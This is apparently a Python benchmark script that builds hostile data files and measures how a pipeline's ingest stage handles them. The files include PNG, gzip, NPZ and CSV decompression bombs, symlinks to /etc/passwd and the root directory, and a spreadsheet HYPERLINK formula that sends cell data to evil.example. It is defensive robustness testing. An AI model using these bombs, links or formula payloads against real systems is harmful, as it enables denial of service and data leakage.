"""What a hostile or odd data file costs the ingest stage: its one line, its exit code, its peak memory.

    python -m aigc_bench.hostile_files [--cases png_bomb,links,...]

Builds each file under aigc_bench/.work/hostile (streamed: a 2 GiB gzip bomb is written in 1 MiB
pieces, never held), then runs ``python -m pipeline.ingest`` on it as a user would -- the stage's
command line, its Prefect flow and its harness -- and records the exit code, the ``error:`` line,
whether a traceback was printed, what was written and the peak resident memory of the stage
process (``RUSAGE_CHILDREN`` of a wrapper that runs only the stage). A valid 12-image folder is the
baseline: the stage's own imports (torch, Prefect) cost ~250 MB before any data is read.
Results: reports/benchmarks/hostile_files.json and .md, with the machine and the load average.
"""

from __future__ import annotations

import argparse
import gzip
import io
import json
import os
import struct
import subprocess
import sys
import time
import zipfile
import zlib
from pathlib import Path
from typing import Any

import numpy as np

ROOT = Path(__file__).resolve().parents[1]
WORK = ROOT / "aigc_bench" / ".work" / "hostile"
OUT = ROOT / "reports" / "benchmarks" / "hostile_files"
MIB = bytes(1 << 20)


def _valid_folder(root: Path, n: int = 12) -> Path:
    from PIL import Image

    rng = np.random.default_rng(0)
    for i in range(n):
        (root / str(i % 3)).mkdir(parents=True, exist_ok=True)
        Image.fromarray(rng.integers(0, 256, (28, 28), dtype=np.uint8)).save(root / str(i % 3) / f"{i:03d}.png")
    return root


def _chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png_bomb(root: Path) -> Path:
    """A valid 30000x30000 8-bit grey PNG of zeros (~1 MB on disk, 900 MB decoded) among valid images."""
    _valid_folder(root)
    c = zlib.compressobj(9)
    row = bytes(1 + 30000)  # filter byte + a row of zeros
    idat = b"".join(c.compress(row) for _ in range(30000)) + c.flush()
    ihdr = struct.pack(">IIBBBBB", 30000, 30000, 8, 0, 0, 0, 0)
    (root / "1" / "bomb.png").write_bytes(b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", ihdr) + _chunk(b"IDAT", idat)
                                          + _chunk(b"IEND", b""))
    return root


def links(root: Path) -> Path:
    """Two symbolic links leading out of the folder: a file and the file system's root."""
    _valid_folder(root)
    for link, target in ((root / "0" / "passwd.png", "/etc/passwd"), (root / "everything", "/")):
        link.symlink_to(target)
    return root


def idx_gzip_bomb(root: Path) -> Path:
    """An IDX header claiming (60000, 28, 28) uint8 (45 MiB), followed by 2 GiB of zeros, gzipped (~2 MB)."""
    root.mkdir(parents=True)
    path = root / "bomb-images-idx3-ubyte.gz"
    with gzip.GzipFile(path, "wb", compresslevel=9, mtime=0) as f:
        f.write(struct.pack(">HBB", 0, 8, 3) + struct.pack(">3I", 60000, 28, 28))
        for _ in range(2048):
            f.write(MIB)
    return path


def npz_zip_bomb(root: Path) -> Path:
    """An NPZ whose images.npy honestly holds 3 GiB of zeros, deflated to ~3 MB."""
    root.mkdir(parents=True)
    path, head = root / "bomb.npz", io.BytesIO()
    np.lib.format.write_array_header_1_0(head, {"descr": "|u1", "fortran_order": False,
                                                "shape": (3 * 1024 * 1024, 32, 32)})
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as zf:
        with zf.open("images.npy", "w", force_zip64=True) as f:
            f.write(head.getvalue())
            for _ in range(3072):
                f.write(MIB)
    return path


def csv_gzip_bomb(root: Path) -> Path:
    """1 GiB of 28x28 pixel rows of zeros as a gzipped CSV (~2 MB)."""
    root.mkdir(parents=True)
    path = root / "bomb.csv.gz"
    line = (",".join(["0"] * 785) + "\n").encode()
    block = line * ((1 << 20) // len(line))
    with gzip.GzipFile(path, "wb", compresslevel=9, mtime=0) as f:
        f.write(("label," + ",".join(f"pixel{i}" for i in range(784)) + "\n").encode())
        for _ in range(1024):
            f.write(block)
    return path


def _pixels_csv(path: Path, labels: list[str], sep: str = ",") -> Path:
    images = np.random.default_rng(0).integers(0, 256, (len(labels), 16), dtype=np.uint8)
    path.write_text(sep.join(["label", *(f"pixel{i}" for i in range(16))]) + "\n"
                    + "".join(sep.join([y, *map(str, im)]) + "\n" for y, im in zip(labels, images)))
    return path


def semicolon_csv(root: Path) -> Path:
    root.mkdir(parents=True)
    return _pixels_csv(root / "semi.csv", [str(i % 3) for i in range(60)], sep=";")


def semicolon_csv_no_pixels(root: Path) -> Path:
    root.mkdir(parents=True)
    (root / "semi_nopix.csv").write_text("kind;width;height\ncat;3;4\ndog;5;6\n")
    return root / "semi_nopix.csv"


def float_labels_csv(root: Path) -> Path:
    root.mkdir(parents=True)
    return _pixels_csv(root / "float_labels.csv", [f"{float(i % 2)}" for i in range(60)])


def half_label_csv(root: Path) -> Path:
    root.mkdir(parents=True)
    return _pixels_csv(root / "half_label.csv", ["0.5" if i == 7 else f"{float(i % 2)}" for i in range(60)])


def formula_metadata(root: Path) -> Path:
    """A folder whose metadata.csv holds a spreadsheet formula in a text column."""
    _valid_folder(root)
    files = sorted(p.relative_to(root).as_posix() for p in root.rglob("*.png"))
    rows = ["file,note,offset"] + [f'{f},"=HYPERLINK(""http://evil.example/?""&A1,""click"")",{-i}' if i == 0
                                   else f"{f},fine,{-i}" for i, f in enumerate(files)]
    (root / "metadata.csv").write_text("\n".join(rows) + "\n")
    return root


def valid_folder(root: Path) -> Path:
    return _valid_folder(root)


CASES = {  # name: (data.source, the builder)
    "valid_folder": ("folder", valid_folder),
    "png_bomb": ("folder", png_bomb),
    "links": ("folder", links),
    "idx_gzip_bomb": ("idx", idx_gzip_bomb),
    "npz_zip_bomb": ("npz", npz_zip_bomb),
    "csv_gzip_bomb": ("csv", csv_gzip_bomb),
    "semicolon_csv": ("csv", semicolon_csv),
    "semicolon_csv_no_pixels": ("csv", semicolon_csv_no_pixels),
    "float_labels_csv": ("csv", float_labels_csv),
    "half_label_csv": ("csv", half_label_csv),
    "formula_metadata": ("folder", formula_metadata),
}

# Runs the stage as a child and prints its exit code, output and the child's peak RSS (KiB).
WRAPPER = ("import resource, subprocess, sys, time\nt = time.perf_counter()\n"
           "r = subprocess.run(sys.argv[1:], capture_output=True, text=True)\n"
           "import json\nprint(json.dumps([r.returncode, r.stdout, r.stderr, "
           "resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss, time.perf_counter() - t]))")


def run_case(name: str) -> dict[str, Any]:
    import shutil

    import yaml

    source, build = CASES[name]
    case = WORK / name
    shutil.rmtree(case, ignore_errors=True)
    case.mkdir(parents=True)
    path = build(case / "input")
    params = yaml.safe_load((ROOT / "params.yaml").read_text())
    params["data"].update(source=source, path=str(path))
    (case / "params.yaml").write_text(yaml.safe_dump(params))
    cmd = [sys.executable, "-c", WRAPPER, sys.executable, "-m", "pipeline.ingest", "--params",
           str(case / "params.yaml"), "--out", str(case / "raw")]
    done = subprocess.run(cmd, capture_output=True, text=True, cwd=ROOT, check=True,
                          env={**os.environ, "PYTHONPATH": str(ROOT)})
    rc, stdout, stderr, rss_kib, seconds = json.loads(done.stdout.strip().splitlines()[-1])
    errors = [line for line in stderr.splitlines() if line.startswith("error:")]
    written = sorted(p.name for p in (case / "raw").iterdir()) if (case / "raw").exists() else []
    result = {"source": source, "input_bytes": sum(p.stat().st_size for p in ([path] if path.is_file() else
                                                                               path.rglob("*")) if p.is_file()),
              "exit_code": rc, "error": errors[-1].removeprefix("error: ") if errors else None,
              "traceback": "Traceback" in stdout + stderr, "written": written,
              "peak_rss_mb": round(rss_kib / 1024), "seconds": round(seconds, 1)}
    if name == "formula_metadata" and (case / "raw" / "metadata.csv").exists():
        result["metadata_row"] = (case / "raw" / "metadata.csv").read_text().splitlines()[1]
    return result


def main() -> None:
    from aigc import machine

    ap = argparse.ArgumentParser(prog="python -m aigc_bench.hostile_files", description=__doc__.splitlines()[0])
    ap.add_argument("--cases", default=",".join(CASES), help="comma-separated (default: all)")
    args = ap.parse_args()
    load0 = os.getloadavg()
    results = {}
    for name in args.cases.split(","):
        results[name] = run_case(name)
        print(name, json.dumps(results[name]), flush=True)
    record = {"what": "python -m pipeline.ingest on each file, as a user runs it", "machine": machine.describe(),
              "load_average_before": load0, "load_average_after": os.getloadavg(),
              "measured_at": time.strftime("%Y-%m-%dT%H:%M:%SZ", time.gmtime()), "cases": results}
    OUT.parent.mkdir(parents=True, exist_ok=True)
    OUT.with_suffix(".json").write_text(json.dumps(record, indent=1) + "\n")
    lines = ["# Hostile data files through the ingest stage", "",
             f"{record['measured_at']}; {machine.one_line(record['machine'])}; load average "
             f"{load0[0]:.2f} before, {record['load_average_after'][0]:.2f} after. `python -m pipeline.ingest` "
             "as a user runs it; peak RSS of the stage process (its imports alone: the valid folder's row).", "",
             "| case | input | exit | peak RSS | traceback | written | the line it prints |", "|---|---|---|---|---|---|---|"]
    for name, r in results.items():
        said = r["error"] or (f"read: {r['metadata_row']}" if "metadata_row" in r else "read")
        said = said.replace(f"{WORK}/", "").replace("|", "\\|")  # paths relative to the work folder
        size = r["input_bytes"]
        lines.append(f"| {name} | {size / 2**20:.1f} MiB | " if size >= 2**20 else f"| {name} | {size / 1024:.0f} KiB | ")
        lines[-1] += (f"{r['exit_code']} | {r['peak_rss_mb']} MB | {'yes' if r['traceback'] else 'no'} | "
                      f"{', '.join(r['written']) or 'nothing'} | {said} |")
    OUT.with_suffix(".md").write_text("\n".join(lines) + "\n")
    print(f"wrote {OUT.with_suffix('.json')} and .md")


if __name__ == "__main__":
    main()
